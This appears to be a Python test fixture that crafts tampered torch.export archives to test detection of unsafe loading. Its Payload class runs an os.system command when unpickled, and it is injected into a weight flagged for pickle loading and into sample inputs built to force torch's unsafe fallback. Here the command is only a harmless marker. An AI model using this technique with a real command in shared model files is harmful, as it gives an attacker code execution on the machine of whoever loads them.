"""Crafted torch.export archives, built from a real export: each hides a payload torch would run."""

from __future__ import annotations

import io
import json
import os
import zipfile
from pathlib import Path

import torch


class Payload:
    """Unpickling it runs `touch MARKER` (what a hostile file would do with os.system)."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def pickled(obj: object) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


def rewrite(src: Path, dst: Path, edit) -> Path:
    """Copy a .pt2 member by member; `edit(rel, data)` returns new bytes or None to keep them."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            rel = info.filename.split("/", 1)[1]
            data = zin.read(info)
            new = edit(rel, data)
            zout.writestr(info.filename, data if new is None else new)
    return dst


def pickled_weight(src: Path, dst: Path, marker: Path) -> Path:
    """The first weight flagged `use_pickle` and replaced by a pickle that runs the payload."""

    def edit(rel: str, data: bytes) -> bytes | None:
        if rel == "data/weights/model_weights_config.json":
            config = json.loads(data)
            first = next(iter(config["config"].values()))
            first["use_pickle"] = True
            first["path_name"] = "weight_0"
            return json.dumps(config).encode()
        if rel == "data/weights/weight_0":
            return pickled(Payload(marker))
        return None

    return rewrite(src, dst, edit)


def pickled_sample_inputs(src: Path, dst: Path, marker: Path) -> Path:
    """Sample inputs that fail torch's safe load, so torch falls back to the unsafe one."""

    def edit(rel: str, data: bytes) -> bytes | None:
        if rel.startswith("data/sample_inputs/"):
            return pickled(((Payload(marker),), {}))
        return None

    return rewrite(src, dst, edit)


def extra_member(src: Path, dst: Path, member: str, payload: bytes) -> Path:
    """The archive plus one member torch.export.save never writes (e.g. an AOTI library)."""
    rewrite(src, dst, lambda rel, data: None)
    with zipfile.ZipFile(dst, "a") as zout:
        root = zout.namelist()[0].split("/", 1)[0]
        zout.writestr(f"{root}/{member}", payload)
    return dst
